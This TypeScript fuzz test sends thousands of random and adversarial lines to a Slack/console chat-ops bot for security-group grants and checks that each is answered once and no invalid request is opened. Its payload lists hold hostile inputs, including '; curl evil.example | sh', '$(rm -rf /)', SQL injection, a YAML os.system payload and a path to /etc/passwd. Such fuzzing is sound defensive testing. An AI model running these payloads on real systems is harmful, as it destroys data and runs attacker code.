import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startChatWorld } from '../helpers/chat-world.ts';
import type { TestWorld } from '../helpers/test-world.ts';
import type { ChatFakes } from '../../src/sandbox/start-chat-fakes.ts';
import { signSlackRequest } from '../../adapters/slack/index.ts';
import type { ConsoleMessage } from '../../adapters/console/console-chat.ts';
import { replyTexts } from '../../src/chat/reply-texts.ts';
import { formatCommand } from '../../src/commands/format-command.ts';
import { isAppName } from '../../src/domain/is-app-name.ts';
import { isClusterId } from '../../src/domain/is-cluster-id.ts';
import { isDns1123Label } from '../../src/domain/is-dns1123-label.ts';
import { isSecurityGroupId } from '../../src/domain/is-security-group-id.ts';
import { isSecurityGroupName } from '../../src/domain/is-security-group-name.ts';
import { command as validCommand } from '../unit/commands/command-arbitraries.ts';
import { chatPeople, sreApprovedPolicy } from '../helpers/chat-people.ts';

/**
 * Issue 6's fuzz acceptance through the running app: random and adversarial lines go through the
 * real chat service (console port → intake → chat queue → service) and, for a share, as signed
 * Slack slash commands. Every line is answered once, nothing throws, and no request is opened
 * with an invalid app, namespace or cluster.
 */
const consoleLines = 10_000;
const slackLines = 500;
const seed = 20_240_601;
// Lines holding U+0000 are answered too: the intake replaces it (Postgres text cannot hold it).

const keywords = [
  ...['grant', 'plan', 'revoke', 'pod', 'SG', 'to', 'from', 'app', 'serviceaccount', 'in', 'on', 'using'],
  ...['as group', 'allow', 'for', 'because', 'tcp:3306', 'udp:53', 'icmp', '8h', 'status', 'request'],
  ...['policies', 'requests', 'mine', 'pending', 'approve', 'deny', 'cancel', 'retry', 'rollback', 'audit'],
  ...['help', '10.0.0.0/8', 'sg-a1b2c3d4', 'cls-sandbox1', 'my-namespace', 'my-app', 'R7K2P'],
  ...['授权', 'Pod', '安全组', '给', '应用', '在', '于', '撤销', '状态', '批准', '拒绝', '帮助', '原因'],
  ...['<@USGOPSBOT>', '<@U0BOB>', '/sgops'],
];
const adversarial = [
  '$(rm -rf /)',
  '`id`',
  '; curl evil.example | sh',
  "'; DROP TABLE requests; --",
  '{{7*7}}',
  '${process.exit()}',
  '!!python/object/apply:os.system ["id"]',
  '\n- name: x\n  value: y',
  'app: x\nkind: Secret',
  '&anchor *alias',
  '|\n  block',
  '---\napiVersion: v1',
  '\u202e',
  '\u0000',
  '\u0007',
  '\u001b[31m',
  '\u200b',
  '\ufeff',
  '\ud800',
  '<!channel>',
  '<#C1|general>',
  '<http://x.y|x.y>',
  '../../etc/passwd',
  '%s%n%x',
  '\\',
  '"',
  '“',
  'İ',
  '😀',
  '👩‍👩‍👧',
  '　',
  '\r\n',
  'ｇｒａｎｔ',
  'a'.repeat(300),
  '授'.repeat(200),
];
/** Names one step from valid: each must be refused before any request exists. */
const nearApp = [
  '-app',
  'app-',
  '_app',
  'a'.repeat(64),
  'my app',
  'my-аpp', // Cyrillic а
  'my-app;id',
  'my-app\u200b',
  'ｍｙ-app',
  'my-app$(id)',
  'my-app\nnamespace: kube-system',
  "my-app' or '1'='1",
  '../app',
  'my-app/x',
  'my-app:latest',
];
const nearNamespace = [
  'My-Namespace',
  'my_namespace',
  'my-namespace-',
  '-my-namespace',
  'my.namespace',
  'n'.repeat(64),
  'my-namespace\u0000',
  'my-namespacé',
  'kube-system;id',
  'my-namespace`id`',
];
const nearCluster = [
  'cls-sandbox',
  'cls-sandbox12',
  'CLS-SANDBOX1',
  'cls-sandb0x!',
  'cls_sandbox1',
  'ｃｌｓ-sandbox1',
  'cls-sandbox1$(id)',
  'cls-',
  'sg-sandbox1',
];

const near = (good: string, bad: readonly string[]) =>
  fc.oneof({ weight: 1, arbitrary: fc.constant(good) }, { weight: 2, arbitrary: fc.constantFrom(...bad) });
const almostValidGrant = fc
  .tuple(
    near('my-app', nearApp),
    near('my-namespace', nearNamespace),
    near('cls-sandbox1', nearCluster),
    fc.boolean(),
  )
  .map(([app, ns, cls, zh]) =>
    zh
      ? `授权 Pod 安全组 给 应用 ${app} 在 ${ns} 于 ${cls}`
      : `grant pod SG to app ${app} in ${ns} on ${cls}`,
  );
const piece = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...keywords) },
  { weight: 2, arbitrary: fc.constantFrom(...nearApp, ...nearNamespace, ...nearCluster) },
  { weight: 2, arbitrary: fc.constantFrom(...adversarial) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 60 }) },
  { weight: 1, arbitrary: fc.integer({ min: 0, max: 0x1f }).map((c) => String.fromCharCode(c)) },
);
const separator = fc.constantFrom(' ', '  ', '\t', '', '\n', '\u3000', '，', ':');
const line = fc.oneof(
  {
    weight: 6,
    arbitrary: fc
      .array(fc.tuple(piece, separator), { maxLength: 14 })
      .map((parts) => parts.map(([p, s]) => p + s).join('')),
  },
  { weight: 3, arbitrary: almostValidGrant },
  // Valid commands of every kind, in both languages, some with junk appended.
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        validCommand,
        fc.constantFrom('en' as const, 'zh' as const),
        fc.option(fc.constantFrom(...adversarial)),
      )
      .map(([c, locale, junk]) => formatCommand(c, locale) + (junk === null ? '' : ` ${junk}`)),
  },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 200 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', minLength: 1990, maxLength: 2010 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-composite', minLength: 3000, maxLength: 5000 }) },
);

/** Who says the line: a requester, a Chinese-speaking approver, and someone the policy does not know. */
const speakers = ['alice', 'alice', 'alice', 'carol', 'mallory'];

const internalErrorTexts = (ref: string) => [
  replyTexts.en.internalError({ ref }),
  replyTexts.zh.internalError({ ref }),
];

async function inPool<T>(items: T[], width: number, work: (item: T, index: number) => Promise<void>) {
  let next = 0;
  await Promise.all(
    Array.from({ length: width }, async () => {
      while (next < items.length) {
        const index = next++;
        await work(items[index]!, index);
      }
    }),
  );
}

describe('random and adversarial chat lines through the running app', () => {
  let world: TestWorld;
  let fakes: ChatFakes;
  let url = '';
  const lines = fc.sample(line, { numRuns: consoleLines, seed });

  beforeAll(async () => {
    ({ world, fakes, url } = await startChatWorld('chat-fuzz', {
      policy: sreApprovedPolicy(chatPeople, ['alice', 'carol']),
    }));
  });

  afterAll(async () => {
    await world?.stop();
    await fakes?.stop();
  });

  it(`answers each of ${consoleLines.toLocaleString('en')} lines said on the console exactly once, never with an internal error`, async () => {
    const replies = new Map<string, ConsoleMessage[]>();
    const waiting = new Map<string, (m: ConsoleMessage) => void>();
    const unsubscribe = world.app.console.subscribe((m) => {
      if (!m.inReplyTo) return;
      const list = replies.get(m.inReplyTo) ?? [];
      list.push(m);
      replies.set(m.inReplyTo, list);
      waiting.get(m.inReplyTo)?.(m);
    });
    const ids: string[] = [];
    const sayFailures: string[] = [];
    const started = performance.now();
    try {
      await inPool(lines, 32, async (text, index) => {
        let id: string;
        try {
          id = await world.app.console.say(speakers[index % speakers.length]!, text);
        } catch (error) {
          sayFailures.push(`${JSON.stringify(text.slice(0, 80))}: ${(error as Error).message}`);
          return;
        }
        ids[index] = id;
        if (replies.has(id)) return;
        await new Promise<void>((resolve, reject) => {
          const timer = setTimeout(
            () => reject(new Error(`no reply to line ${index}: ${JSON.stringify(text.slice(0, 80))}`)),
            20_000,
          );
          waiting.set(id, () => {
            clearTimeout(timer);
            waiting.delete(id);
            resolve();
          });
        });
      });
      // A moment for any second answer to show itself.
      await new Promise((r) => setTimeout(r, 1000));
    } finally {
      unsubscribe();
    }
    const seconds = (performance.now() - started) / 1000;

    const kinds = { reply: 0, error: 0 };
    const twice: string[] = [];
    const internal: string[] = [];
    ids.forEach((id, index) => {
      if (id === undefined) return;
      const answers = replies.get(id) ?? [];
      if (answers.length !== 1)
        twice.push(`${answers.length}× ${JSON.stringify(lines[index]!.slice(0, 80))}`);
      for (const a of answers) {
        expect(['reply', 'error']).toContain(a.kind);
        if (a.kind === 'reply' || a.kind === 'error') kinds[a.kind]++;
        expect(a.text.trim().length).toBeGreaterThan(0);
        if (internalErrorTexts(id).includes(a.text))
          internal.push(JSON.stringify(lines[index]!.slice(0, 80)));
      }
    });
    console.log(
      `console fuzz: ${lines.length} lines in ${seconds.toFixed(1)} s (${(lines.length / seconds).toFixed(0)} lines/s); ` +
        `${kinds.reply} replies, ${kinds.error} errors, ${sayFailures.length} refused at intake, ${internal.length} internal errors`,
    );
    expect(sayFailures).toEqual([]);
    expect(twice).toEqual([]);
    expect(internal).toEqual([]);
    expect(kinds.reply + kinds.error).toBe(lines.length);
  }, 300_000);

  it(`answers each of ${slackLines} lines sent as signed Slack slash commands`, async () => {
    const sample = lines.slice(0, slackLines);
    const statuses = new Map<number, number>();
    const bodies: string[] = [];
    const started = performance.now();
    await inPool(sample, 16, async (text, index) => {
      const body = new URLSearchParams({
        team_id: 'T0SGOPS',
        // A channel per line, so each line's answer can be found among the fake API's calls.
        channel_id: `CFUZZ${index}`,
        user_id: index % 7 === 6 ? 'U0MALLORY' : 'U0ALICE',
        command: '/sgops',
        text,
        trigger_id: `fuzz.${index}.${Date.now()}`,
        response_url: 'https://hooks.slack.com/commands/T0SGOPS/1/x',
      }).toString();
      const res = await fetch(`${url}/slack/events`, {
        method: 'POST',
        headers: {
          'content-type': 'application/x-www-form-urlencoded',
          ...signSlackRequest(fakes.slack.signingSecret, body),
        },
        body,
      });
      bodies[index] = await res.text();
      statuses.set(res.status, (statuses.get(res.status) ?? 0) + 1);
    });
    const acked = performance.now();
    const answered = new Set<string>();
    const deadline = Date.now() + 60_000;
    const settled = () => sample.every((_, index) => answered.has(`CFUZZ${index}`));
    while (!settled() && Date.now() < deadline) {
      for (const call of fakes.slackApi.calls()) {
        const channel = (call.body as { channel?: unknown }).channel;
        if (
          typeof channel === 'string' &&
          channel.startsWith('CFUZZ') &&
          ['chat.postMessage', 'chat.postEphemeral'].includes(call.method)
        )
          answered.add(channel);
      }
      if (!settled()) await new Promise((r) => setTimeout(r, 200));
    }
    const seconds = (performance.now() - started) / 1000;
    const missing = sample
      .map((text, index) => ({ text, channel: `CFUZZ${index}` }))
      .filter((l) => !answered.has(l.channel))
      .map((l) => JSON.stringify(l.text.slice(0, 80)));
    console.log(
      `slack fuzz: ${sample.length} slash commands acknowledged in ${((acked - started) / 1000).toFixed(1)} s ` +
        `(statuses ${JSON.stringify(Object.fromEntries(statuses))}), ${answered.size} answered through the Slack API, ` +
        `${seconds.toFixed(1)} s in all`,
    );
    expect(Object.fromEntries(statuses)).toEqual({ 200: sample.length });
    expect(missing).toEqual([]);
  }, 180_000);

  it('opened no request whose app or service account, groups, namespace or cluster is invalid', async () => {
    const requests = await world.app.store.listRequests({ limit: 1_000_000 });
    const bad = requests.filter((r) => {
      const spec = r.spec as {
        target?: { kind?: unknown; app?: unknown; serviceAccount?: unknown };
        groups?: { kind?: unknown; ids?: unknown; name?: unknown };
        namespace?: unknown;
        clusterId?: unknown;
      };
      const target = spec.target;
      const validTarget =
        target?.kind === 'serviceAccount'
          ? typeof target.serviceAccount === 'string' && isDns1123Label(target.serviceAccount)
          : typeof target?.app === 'string' && isAppName(target.app);
      const groups = spec.groups;
      const validGroups =
        groups === undefined ||
        (groups.kind === 'existing' &&
          Array.isArray(groups.ids) &&
          groups.ids.length > 0 &&
          groups.ids.every((id) => typeof id === 'string' && isSecurityGroupId(id))) ||
        (groups.kind === 'named' && typeof groups.name === 'string' && isSecurityGroupName(groups.name));
      return !(
        validTarget &&
        validGroups &&
        isDns1123Label(r.namespace) &&
        spec.namespace === r.namespace &&
        isClusterId(r.clusterId) &&
        spec.clusterId === r.clusterId
      );
    });
    console.log(`fuzz opened ${requests.length} requests, all with valid names: ${bad.length === 0}`);
    expect(requests.length).toBeGreaterThan(0);
    expect(
      bad.map((r) => ({ id: r.id, clusterId: r.clusterId, namespace: r.namespace, spec: r.spec })),
    ).toEqual([]);
  });
});
